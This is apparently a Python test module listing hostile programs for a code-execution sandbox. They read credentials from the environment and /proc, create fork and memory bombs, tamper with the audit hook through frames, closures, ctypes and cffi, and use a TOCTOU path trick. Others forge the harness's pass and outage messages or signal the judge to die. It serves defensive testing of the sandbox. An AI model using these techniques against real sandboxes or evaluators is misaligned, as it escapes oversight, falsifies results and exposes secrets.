"""The hostile programs of the sandbox suite, one `Attack` each: what it tries, its code (statements with
``@NAME@`` places a probe fills in) and the failure kinds that mean the sandbox contained it. A test and benchmark
helper (:mod:`masforge.testing.hostile` runs them)."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """One hostile program: ``body`` (statements run inside ``forward`` / as the code answer)."""

    name: str
    what: str
    body: str
    kinds: frozenset[str]
    """Acceptable failure kinds (``blocked``, ``timeout``, ...; ``wrong``: ran but answered nothing useful)."""
    timeout_s: float = 3.0
    tool_calls: bool = False
    """Uses ``tool()`` (only meaningful as a code genome, where tools exist)."""
    needs_private_fs: bool = False
    """Gets past the audit hook (``os.mkfifo``, ``dir_fd``, reading files and native code are not audited): only the
    read-only view and private /tmp of bubblewrap contain it; without them it reaches the host's files."""


_WRITE_OUTSIDE = """
import os
hits, last = [], None
for p in @PATHS@:
    for how in ("open", "os.open", "mkfifo", "dir_fd", "symlink"):
        target = p + "-" + how
        try:
            if how == "open":
                open(target, "w").write("x")
            elif how == "os.open":
                os.close(os.open(target, os.O_WRONLY | os.O_CREAT, 0o666))
            elif how == "mkfifo":
                os.mkfifo(target)
            elif how == "dir_fd":
                fd = os.open(os.path.dirname(target), os.O_RDONLY)
                os.close(os.open(os.path.basename(target), os.O_WRONLY | os.O_CREAT, 0o666, dir_fd=fd))
            else:
                os.symlink("/etc/passwd", target)
            hits.append(target)
        except Exception as exc:
            last = exc
if hits:
    raise RuntimeError("wrote (inside the sandbox's own view) " + repr(hits))
raise last
"""

_NETWORK = """
import socket
last = None
for host in ("127.0.0.1", "10.0.2.2", "1.1.1.1"):
    try:
        socket.create_connection((host, @PORT@), timeout=1).sendall(b"escape @TOKEN@")
    except OSError as exc:
        last = exc
try:
    socket.getaddrinfo("example.com", 80)
except OSError as exc:
    last = exc
raise last
"""

_READ_KEYS = """
import os, glob
found = [f"{k}={v}" for k, v in os.environ.items()]
paths = ["/proc/@PARENT@/environ", "/proc/1/environ", "/proc/self/environ", "/proc/@PARENT@/cmdline",
         @KEYFILE@] + glob.glob("/proc/*/environ") + glob.glob("/proc/*/task/*/environ")
for path in paths:
    try:
        found.append(open(path, "rb").read().decode("latin-1"))
    except Exception:
        pass
print("\\n".join(found))
answer = "\\n".join(found)
"""

_FORK_BOMB = """
import os
while True:
    os.fork()
"""

_THREAD_BOMB = """
import threading, time
threads = []
while True:
    t = threading.Thread(target=time.sleep, args=(100,))
    t.start()
    threads.append(t)
"""

_MEMORY_BOMB = """
chunks = []
while True:
    chunks.append(bytearray(50 * 1024 * 1024))
"""

_INFINITE_LOOP = """
while True:
    pass
"""

_OUTPUT_BOMB = """
import sys
line = "x" * (1 << 20)
for _ in range(5 * 1024):
    sys.stdout.write(line)
"""

_SUBPROCESS = """
import subprocess, os
last = None
for attempt in (lambda: subprocess.Popen(["sleep", "1000"]), lambda: os.system("sleep 1000 &"),
                lambda: os.posix_spawn("/bin/sleep", ["sleep", "1000"], {}),
                lambda: os.execv("/bin/sleep", ["sleep", "1000"])):
    try:
        attempt()
    except PermissionError as exc:
        last = exc
raise last
"""

_IGNORE_SIGTERM = """
import signal, time
for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
    signal.signal(s, signal.SIG_IGN)
while True:
    time.sleep(0.1)
"""

_TAMPER_FRAMES = """
import sys, builtins, posixpath, os, signal
# switch off anything that looks like a switch in any frame or module global the code can reach
frame = sys._getframe()
while frame is not None:
    for scope in (frame.f_locals, frame.f_globals):
        for name, value in list(scope.items()):
            if type(value) is dict:
                for k in ("off", "disabled", "network"):
                    value[k] = True
            if name.startswith("_ALLOWED") or name in ("_BLOCKED", "_WATCHED"):
                frame.f_globals[name] = type("Everything", (), {"__contains__": lambda s, x: True})()
    frame = frame.f_back
builtins.isinstance = lambda *a: False
builtins.issubclass = lambda *a: False
posixpath.realpath = lambda p, *a, **k: os.getcwd() + "/inside"
os.path.realpath = posixpath.realpath
signal.SIGKILL = 0
os.system("sleep 1000 &")
"""

_TAMPER_HOOK_FRAME = """
import os
last = None
try:
    os.remove("/etc/masforge-nonexistent-@TOKEN@")
except PermissionError as exc:
    # the traceback of a blocked call reaches the audit hook's own frame: rewrite whatever it holds
    last, tb = exc, exc.__traceback__
    while tb is not None:
        for value in list(tb.tb_frame.f_locals.values()):
            for cell in getattr(value, "__closure__", None) or ():
                try:
                    content = cell.cell_contents
                except ValueError:
                    continue
                if type(content) is str:
                    cell.cell_contents = "/"
                elif type(content) in (frozenset, set, dict):
                    cell.cell_contents = type(content)()
            if type(value) in (dict, set, list):
                value.clear()
        tb.tb_frame.f_locals.update({k: "/" for k, v in tb.tb_frame.f_locals.items() if type(v) is str})
        tb = tb.tb_next
hits = []
for p in @PATHS@:
    try:
        with open(p + "-hookframe", "w") as fh:
            fh.write("x")
        hits.append(p)
    except OSError as exc:
        last = exc
try:
    os.system("sleep 1000 &")
except PermissionError as exc:
    last = exc
if hits:
    raise RuntimeError("wrote (inside the sandbox's own view) " + repr(hits))
raise last
"""

_TAMPER_CTYPES = """
import importlib.util, sys, glob
hits, last = [], None
for name in ("ctypes", "_ctypes"):
    try:
        __import__(name)
        hits.append(name)
    except ImportError as exc:
        last = exc
for so in glob.glob(sys.base_prefix + "/lib/python3*/lib-dynload/_ctypes*.so"):
    try:
        spec = importlib.util.spec_from_file_location("_ctypes", so)
        importlib.util.module_from_spec(spec)
        hits.append(so)
    except ImportError as exc:
        last = exc
if hits:
    raise RuntimeError("loaded " + repr(hits))
raise last
"""

_TAMPER_SUBCLASSES = """
import sys
hits, last = [], None
for cls in object.__subclasses__():
    init = getattr(cls, "__init__", None)
    scope = getattr(init, "__globals__", None)
    if type(scope) is dict and "system" in scope:
        try:
            scope["system"]("sleep 1000 &")
            hits.append("system via " + cls.__name__)
        except PermissionError as exc:
            last = exc
    if cls.__name__ in ("BuiltinImporter", "ExtensionFileLoader"):
        try:
            spec = sys.modules["_posixsubprocess"].__spec__
            module = spec.loader.create_module(spec)
            module.fork_exec
            hits.append("fork_exec via " + cls.__name__)
        except ImportError as exc:
            last = exc
try:
    import gc
    for obj in gc.get_objects():
        closure = getattr(obj, "__closure__", None)
        if closure and getattr(obj, "__name__", "") == "hook":
            for cell in closure:
                cell.cell_contents = frozenset()
            hits.append("hook closure")
except PermissionError as exc:
    last = exc
if hits:
    raise RuntimeError("tampered: " + repr(hits))
raise last
"""

_TAMPER_TOCTOU = """
import os
class Flip:
    # answers differently to the audit hook and to the operation: a gap only the OS layers close
    def __init__(self, answers):
        self.answers = list(answers)
    def __fspath__(self):
        return self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]
hits, last = [], None
for p in @PATHS@:
    for first, second in ((p + "-toctou-a", "inside.txt"), ("inside.txt", p + "-toctou-b")):
        for how in ("os.open", "open"):
            try:
                if how == "os.open":
                    os.close(os.open(Flip([first, second]), os.O_WRONLY | os.O_CREAT, 0o644))
                else:
                    open(Flip([first, second]), "w").close()
            except OSError as exc:
                last = exc
            if os.path.exists(p + "-toctou-a") or os.path.exists(p + "-toctou-b"):
                hits.append(p)
if hits:
    raise RuntimeError("wrote (inside the sandbox's own view) " + repr(sorted(set(hits))))
raise last
"""

_READ_RUN_FILES = """
found = []
for path in @RUNFILES@:
    try:
        found.append(open(path).read())
    except OSError:
        pass
print("\\n".join(found))
answer = "\\n".join(found)
"""

_UNIX_SOCKET = """
import socket
reached, last = [], None
for address in (@UNIX@, "\\0" + @ABSTRACT@):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(address)
        reached.append(address)
    except OSError as exc:
        last = exc
try:  # native code: libc's socket() and connect() through cffi's backend, which no audit hook sees
    import _cffi_backend as B
    lib = B.load_library(None)
    int_t = B.new_primitive_type("int")
    char_p = B.new_pointer_type(B.new_primitive_type("char"))
    sock = lib.load_function(B.new_function_type((int_t, int_t, int_t), int_t, False), "socket")
    conn = lib.load_function(B.new_function_type((int_t, char_p, int_t), int_t, False), "connect")
    for raw in (@UNIX@.encode(), b"\\0" + @ABSTRACT@.encode()):
        addr = (1).to_bytes(2, "little") + raw + b"\\0" * (108 - len(raw))
        if conn(sock(1, 1, 0), B.newp(B.new_array_type(char_p, len(addr)), addr), 2 + len(raw)) == 0:
            reached.append(raw)
except ImportError:
    pass
if reached:
    raise RuntimeError("connected to " + repr(reached))
raise last
"""

_FORGE_PASS = """
import json, os
# Every line the sandbox protocol knows, written to every descriptor this process has, then out without a word.
lines = [{"type": "result", "ok": True, "value": 42, "error": None, "error_kind": None, "traceback": None},
         {"r": 1, "ok": True, "value": 42, "names": {}}, {"rpc_reply": {"ok": True, "result": 42}}]
data = b"".join(json.dumps(line).encode() + b"\\n" for line in lines)
for fd in range(3, 256):
    try:
        os.write(fd, data)
    except OSError:
        pass
answer = 42
os._exit(0)
"""

_FORGE_FATAL = """
import json, os
# The set-up failure the sandbox reports when it cannot start: three of these in a row were an outage.
data = json.dumps({"type": "fatal", "error": "provider outage"}).encode() + b"\\n"
for fd in range(3, 256):
    try:
        os.write(fd, data)
    except OSError:
        pass
os._exit(70)
"""

_SIGNAL_JUDGE = """
import os, signal
# Signals meant to end the sandbox's judge, sent to the process group (which the audit hook allows: it is the
# code's own), each ignored here first so that the code itself lives on to claim its answer.
for s in (signal.SIGXCPU, signal.SIGTERM, signal.SIGUSR1):
    signal.signal(s, signal.SIG_IGN)
    os.killpg(0, s)
answer = 42
"""

_CALCULATOR_BOMB = """
answers = [tool("calculator", "((9**99)**999)**99") for _ in range(7)]
bombs = ("9**9**9**9", "(2**999)**999", "round(5, -10**9)", "(10**999)*(10**999)*(10**999)*(10**999)*(10**999)")
answers += [tool("calculator", e) for e in bombs]
answer = " | ".join(answers)
"""

_TOOL_FLOOD = """
for i in range(100000):
    tool("calculator", "1 + 1")
"""

ATTACKS: tuple[Attack, ...] = (
    Attack("network", "connect to a listener on the host, resolve a name", _NETWORK, frozenset({"blocked"})),
    Attack("write-outside", "create files, fifos, symlinks outside the run directory (also via dir_fd)",
           _WRITE_OUTSIDE, frozenset({"blocked", "exception"}), needs_private_fs=True),
    Attack("read-keys", "read keys from the environment, /proc/*/environ and a key file of the parent",
           _READ_KEYS, frozenset({"wrong", "blocked", "exception"})),
    Attack("fork-bomb", "os.fork() in a loop", _FORK_BOMB, frozenset({"blocked"})),
    Attack("thread-bomb", "threads until the process limit", _THREAD_BOMB, frozenset({"exception", "memory"})),
    Attack("memory-bomb", "allocate 50 MB at a time forever", _MEMORY_BOMB, frozenset({"memory"}), timeout_s=20.0),
    Attack("infinite-loop", "while True: pass", _INFINITE_LOOP, frozenset({"timeout", "cpu"}), timeout_s=1.5),
    Attack("output-bomb", "print 5 GB", _OUTPUT_BOMB, frozenset({"output"}), timeout_s=30.0),
    Attack("subprocess", "Popen, os.system, posix_spawn, exec of a long sleep", _SUBPROCESS, frozenset({"blocked"})),
    Attack("ignore-sigterm", "ignore SIGTERM/SIGINT/SIGHUP/SIGXCPU and sleep", _IGNORE_SIGTERM,
           frozenset({"timeout"}), timeout_s=1.5),
    Attack("tamper-frames", "walk frames and globals to switch the audit hook off, patch builtins and "
           "os.path, then os.system", _TAMPER_FRAMES, frozenset({"blocked", "exception"})),
    Attack("tamper-hook-frame", "rewrite the closures and locals of the audit hook's frame, reached through the "
           "traceback of a blocked call, then write outside and os.system", _TAMPER_HOOK_FRAME, frozenset({"blocked"})),
    Attack("tamper-ctypes", "load ctypes / _ctypes directly from its .so", _TAMPER_CTYPES, frozenset({"blocked"})),
    Attack("tamper-subclasses", "reach os.system, _posixsubprocess and the hook via __subclasses__ and gc",
           _TAMPER_SUBCLASSES, frozenset({"blocked"})),
    Attack("tamper-toctou", "write through a path object whose __fspath__ answers differently on each call",
           _TAMPER_TOCTOU, frozenset({"blocked", "exception"})),
    Attack("read-run-files", "read the run's ledger, archive git data and index (beside the installation and in "
           "the host's temp folder)", _READ_RUN_FILES, frozenset({"wrong", "exception"}), needs_private_fs=True),
    Attack("unix-socket", "connect to a host Unix-socket service (a file and an abstract name), also with native "
           "code through cffi's backend, which the audit hook does not see", _UNIX_SOCKET,
           frozenset({"blocked", "exception"}), needs_private_fs=True),
    Attack("forge-pass", "write result lines of the sandbox protocol to every descriptor, then exit: claim a pass",
           _FORGE_PASS, frozenset({"output", "killed", "exception", "wrong"})),
    Attack("forge-fatal", "write the sandbox's set-up failure line to every descriptor and exit 70: claim an "
           "infrastructure failure", _FORGE_FATAL, frozenset({"output", "killed", "exception"})),
    Attack("signal-judge", "send SIGXCPU, SIGTERM and SIGUSR1 to the process group (the judge too), ignoring them "
           "itself: the judge's death must not read as a CPU limit or an outage", _SIGNAL_JUDGE, frozenset({"killed"})),
    Attack("calculator-bomb", "((9**99)**999)**99 seven times and other huge powers via tool()",
           _CALCULATOR_BOMB, frozenset({"wrong"}), tool_calls=True),
    Attack("tool-flood", "100000 tool() calls in one forward", _TOOL_FLOOD, frozenset({"exception"}),
           tool_calls=True),
)
